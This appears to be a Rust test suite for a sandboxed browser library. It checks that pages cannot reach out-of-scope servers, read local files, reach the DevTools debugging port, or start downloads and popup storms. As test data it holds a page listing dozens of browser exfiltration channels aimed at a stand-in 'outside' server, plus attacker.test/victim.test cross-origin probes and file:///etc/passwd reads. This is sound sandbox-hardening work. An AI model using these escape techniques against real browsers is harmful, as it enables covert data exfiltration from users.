//! Nothing leaves the scope: each way a page may try, against a server that must not hear of it.

use std::time::Duration;

use axum::Router;
use axum::http::header;
use axum::response::{Html, Redirect};
use axum::routing::get;
use gabion_browser::{Answer, BrowserError, Outcome, Verdict};

use crate::harness::{Site, TIME, browser, page, patience, until};

/// A page that tries every way out that it knows to a server beyond the scope.
const ESCAPES: &str = r#"<!doctype html>
<link rel=stylesheet href="OUT/style"><link rel=preconnect href="OUT"><link rel=dns-prefetch href="OUT">
<link rel=prefetch href="OUT/prefetch"><link rel=prerender href="OUT/prerender"><link rel=manifest href="OUT/manifest">
<link rel=modulepreload href="OUT/module">
<script type=speculationrules>{"prerender":[{"urls":["OUT/speculated"],"eagerness":"immediate"}],"prefetch":[{"urls":["OUT/guessed"],"eagerness":"immediate"}]}</script>
<script src="OUT/script"></script><img src="OUT/image" srcset="OUT/set 2x"><iframe src="OUT/frame"></iframe>
<object data="OUT/object"></object><embed src="OUT/embed"><video src="OUT/video" poster="OUT/poster"></video>
<audio src="OUT/audio"></audio><svg><image href="OUT/svg"/></svg><a id=ping ping="OUT/ping" href="javascript:void 0">x</a>
<img src="/away"><iframe src="/away"></iframe>
<script>
  const out = "OUT";
  fetch(out + "/fetch").catch(() => {});
  fetch(out + "/nocors", {mode: "no-cors", keepalive: true}).catch(() => {});
  fetch("/away").catch(() => {});
  fetch("/away", {mode: "no-cors", keepalive: true}).catch(() => {});
  fetch(out + "/preflight", {method: "PUT", headers: {"x-a": "1"}}).catch(() => {});
  navigator.sendBeacon(out + "/beacon", "x");
  new WebSocket(out.replace("http", "ws") + "/socket");
  new EventSource(out + "/events");
  new XMLHttpRequest().open("GET", out + "/never");
  const x = new XMLHttpRequest(); x.open("GET", out + "/xhr"); x.send();
  const code = `fetch("${out}/worker").catch(() => {}); try { importScripts("${out}/import") } catch {}
    new WebSocket("${out.replace("http", "ws")}/workersocket");`;
  new Worker(URL.createObjectURL(new Blob([code])));
  try { new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + out + "/shared')"]))) } catch {}
  try { new Worker("/away.js") } catch {}
  navigator.serviceWorker?.register("/service.js").catch(() => {});
  try { const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:" + new URL(out).port}]});
    peer.createDataChannel("a"); peer.createOffer().then((o) => peer.setLocalDescription(o)); } catch {}
  try { new WebTransport(out.replace("http", "https") + "/transport") } catch {}
  document.body.insertAdjacentHTML("beforeend", "<form id=f target=inner method=post action='" + out + "/form'></form><iframe name=inner></iframe>");
  f.submit(); ping.click();
  new FontFace("a", "url(" + out + "/font)").load().catch(() => {});
  window.open(out + "/popup");
  import(out + "/dynamic").catch(() => {});
</script>"#;

#[tokio::test]
async fn no_way_out_reaches_a_server_beyond_the_scope() {
    let outside = Site::start(Router::new().fallback(async || Html("outside"))).await;
    // What a peer-to-peer connection would ask a server for first.
    let datagrams = tokio::net::UdpSocket::bind(outside.address).await.unwrap();
    let out = outside.url("");
    let html = ESCAPES.replace("OUT", &out);
    let (away, away_js) = (outside.url("/redirected"), outside.url("/redirected.js"));
    let reports = format!("{{\"group\":\"g\",\"max_age\":9,\"endpoints\":[{{\"url\":\"{out}/reports\"}}]}}");
    let links = format!("<{out}/header>; rel=preload; as=script, <{out}>; rel=preconnect");
    let policy = format!("style-src 'self'; report-uri {out}/violation; report-to g");
    let service =
        format!("fetch('{out}/service'); self.onfetch = (e) => e.respondWith(fetch('{out}/taken'));");
    let router = Router::new()
        .route(
            "/",
            get(async move || {
                let headers = [
                    (header::HeaderName::from_static("report-to"), reports),
                    (header::LINK, links),
                    (header::HeaderName::from_static("content-security-policy-report-only"), policy),
                ];
                (headers, Html(html))
            }),
        )
        .route("/away", get(async move || Redirect::to(&away)))
        .route("/away.js", get(async move || Redirect::to(&away_js)))
        .route("/service.js", get(async move || ([(header::CONTENT_TYPE, "text/javascript")], service)))
        .route("/ok", get(async || Html("ok")));
    let site = Site::start(router).await;
    let Some(browser) = browser(&[&site]).await else { return };
    let context = browser.context().await.unwrap();
    let page = context.page().await.unwrap();
    page.goto(&site.url("/"), patience()).await.unwrap();
    page.goto(&site.url("/ok"), patience()).await.unwrap();
    assert_eq!(outside.asked(), [""; 0], "the outside was asked");
    assert!(datagrams.try_recv(&mut [0; 64]).is_err(), "a datagram came");
    let recorded = context.recorded();
    let refused: Vec<&str> = recorded
        .exchanges
        .iter()
        .filter(|one| one.outcome == Outcome::Refused)
        .filter_map(|one| one.url.strip_prefix(&out))
        .collect();
    for tried in
        ["/script", "/image", "/frame", "/fetch", "/xhr", "/worker", "/redirected", "/beacon", "/form"]
    {
        assert!(refused.contains(&tried), "{tried} was not tried: {refused:?}");
    }
    let sockets: Vec<&str> = recorded.sockets.iter().map(|one| one.url.as_str()).collect();
    assert!(sockets.iter().any(|url| url.ends_with("/socket")), "{sockets:?}");
    assert!(recorded.sockets.iter().all(|socket| !socket.in_scope && socket.status.is_none()));
    let refused = browser.refused_connections();
    assert!(refused.contains(&outside.address.to_string()), "{refused:?}: the sockets ended at the wall");
}

#[tokio::test]
async fn a_page_out_of_memory_is_another_site() {
    let router = page("/", "<p>victim</p>").route("/api", get(async || "secret"));
    let site = Site::start(router).await;
    let Some(browser) = browser(&[&site]).await else { return };
    let attack = format!(
        "<iframe src='{0}'></iframe><script>fetch('{0}api').then(() => document.title = 'read', () => document.title = 'not read')</script>",
        site.named("victim.test", "/")
    );
    let context = browser
        .context_with(move |url: &str| match url {
            "http://attacker.test/" => Verdict::Answer(Answer::html(attack.clone())),
            "http://attacker.test/away" => Verdict::Answer(Answer {
                status: 302,
                headers: vec![
                    ("location".into(), "http://attacker.test/there".into()),
                    ("set-cookie".into(), "own=1".into()),
                    ("set-cookie".into(), "two=2".into()),
                ],
                body: Vec::new(),
            }),
            "http://attacker.test/there" => Verdict::Answer(Answer {
                status: 403,
                ..Answer::html("<script>document.title = document.cookie</script>")
            }),
            "https://attacker.test/" => Verdict::Answer(Answer::html("<p>secure</p>")),
            _ => Verdict::Allow,
        })
        .await
        .unwrap();
    let page = context.page().await.unwrap();
    let landed = page.goto("http://attacker.test/", patience()).await.unwrap();
    assert_eq!((landed.url.as_str(), landed.status), ("http://attacker.test/", Some(200)));
    assert_eq!(page.evaluate("document.title", TIME).await.unwrap(), "not read", "another origin");
    let recorded = page.recorded();
    let of = |url: &str| recorded.exchanges.iter().find(|one| one.url == url).cloned().unwrap();
    assert_eq!(of("http://attacker.test/").outcome, Outcome::Answered);
    assert_eq!(of(&site.named("victim.test", "/")).status, Some(200), "framing is not forbidden");
    let mut asked = site.asked();
    asked.sort();
    assert_eq!(asked, ["GET /", "GET /api"]);
    assert_eq!(page.evaluate("location.origin", TIME).await.unwrap(), "http://attacker.test");
    let landed = page.goto("http://attacker.test/away", patience()).await.unwrap();
    assert_eq!((landed.url.as_str(), landed.status), ("http://attacker.test/there", Some(403)));
    assert_eq!(page.evaluate("document.title", TIME).await.unwrap(), "own=1; two=2");
    page.goto("https://attacker.test/", patience()).await.unwrap();
    assert!(page.html().await.unwrap().contains("secure"));
    // A context without it does not know the name.
    let other = browser.context().await.unwrap().page().await;
    let other = other.map(drop);
    assert!(other.is_ok() || matches!(other, Err(BrowserError::PageLost(_))));
}

#[tokio::test]
async fn pages_go_to_no_address_of_the_machine() {
    let site = Site::of(
        "<a id=file href='file:///etc/passwd'>f</a><a id=chrome href='chrome://version'>c</a>
         <a id=source href='view-source:/'>s</a><a id=tools href='devtools://devtools/bundled/inspector.html'>d</a>
         <iframe src='file:///etc/passwd'></iframe>
         <script>fetch('file:///etc/passwd').then(() => document.title = 'read', () => document.title = 'not read')</script>",
    )
    .await;
    let Some(browser) = browser(&[&site]).await else { return };
    let context = browser.context().await.unwrap();
    for link in ["#file", "#chrome", "#source", "#tools"] {
        let page = context.page().await.unwrap();
        page.goto(&site.url("/"), patience()).await.unwrap();
        assert_eq!(page.evaluate("document.title", TIME).await.unwrap(), "not read");
        page.click(link).await.unwrap();
        let _lost_or_not = page.settle(patience()).await;
        let there = page.url();
        assert!(there.starts_with("http://127.0.0.1") || page.lost().is_some(), "{link}: {there}");
    }
}

#[tokio::test]
async fn the_debugging_port_is_out_of_reach() {
    // Everything of this machine is in scope, except the browser itself.
    let site = Site::of("<p>page</p>").await;
    let options = gabion_browser::Options::new(|_: &str| Verdict::Allow);
    let Some(browser) = crate::harness::launch(options).await else { return };
    let context = browser.context().await.unwrap();
    let page = context.page().await.unwrap();
    page.goto(&site.url("/"), patience()).await.unwrap();
    let group = browser.group().unwrap();
    let port = debugging_port(group);
    let ask = format!(
        "Promise.all(['127.0.0.1', 'localhost', '0.0.0.0', 'a.localhost', '[::ffff:7f00:1]'].map((host) =>
           fetch('http://' + host + ':{port}/json/version', {{mode: 'no-cors'}}).then(() => host, () => '')))"
    );
    let reached = page.evaluate(&ask, TIME).await.unwrap();
    assert_eq!(reached, serde_json::json!(["", "", "", "", ""]));
    assert!(!browser.refused_connections().is_empty());
}

/// Read from the profile, whose place stands on the browser's command line.
fn debugging_port(group: i32) -> u16 {
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    let profile = processes
        .filter(|process| {
            let stat = std::fs::read_to_string(process.path().join("stat")).unwrap_or_default();
            let rest = stat.rsplit_once(')').map_or("", |(_, rest)| rest).to_owned();
            rest.split_whitespace().nth(2).is_some_and(|one| one == group.to_string())
        })
        .find_map(|process| {
            let line = std::fs::read(process.path().join("cmdline")).unwrap_or_default();
            let line = String::from_utf8_lossy(&line).into_owned();
            line.split('\0').find_map(|word| word.strip_prefix("--user-data-dir=").map(str::to_owned))
        })
        .expect("a profile");
    let file = std::fs::read_to_string(std::path::Path::new(&profile).join("DevToolsActivePort")).unwrap();
    file.lines().next().unwrap().parse().unwrap()
}

#[tokio::test]
async fn downloads_permissions_and_popups_are_refused() {
    let router = page(
        "/",
        "<a id=load href=/load download>load</a>
         <button id=storm onclick=\"for (let i = 0; i < 40; i++) window.open('/popup?' + i)\">storm</button>",
    )
    .route("/popup", get(async || Html("<script>document.title = 'popup'</script>")))
    .route(
        "/load",
        get(async || ([(header::CONTENT_DISPOSITION, "attachment; filename=x")], vec![b'x'; 1000])),
    );
    let site = Site::start(router).await;
    let Some(browser) = browser(&[&site]).await else { return };
    let context = browser.context().await.unwrap();
    let page = context.page().await.unwrap();
    page.goto(&site.url("/"), patience()).await.unwrap();
    let asked = "navigator.permissions.query({name: 'geolocation'}).then((said) => said.state)";
    assert_ne!(page.evaluate(asked, TIME).await.unwrap(), "granted");
    let place = "new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('told'), (e) => done(e.code)))";
    let place = tokio::time::timeout(Duration::from_secs(20), page.evaluate(place, TIME)).await.unwrap();
    assert_ne!(place.unwrap(), "told");
    page.click("#load").await.unwrap();
    page.settle(patience()).await.unwrap();
    let aborted = page.goto(&site.url("/load"), patience()).await.unwrap_err();
    assert!(matches!(aborted, BrowserError::NotOpened { .. }), "{aborted}");
    page.click("#storm").await.unwrap();
    page.settle(patience()).await.unwrap();
    let popups = page.popups();
    assert!(popups.len() <= 4, "{}", popups.len());
    until("popups are pages", || site.asked().iter().filter(|line| line.contains("/popup")).count() <= 4)
        .await;
}
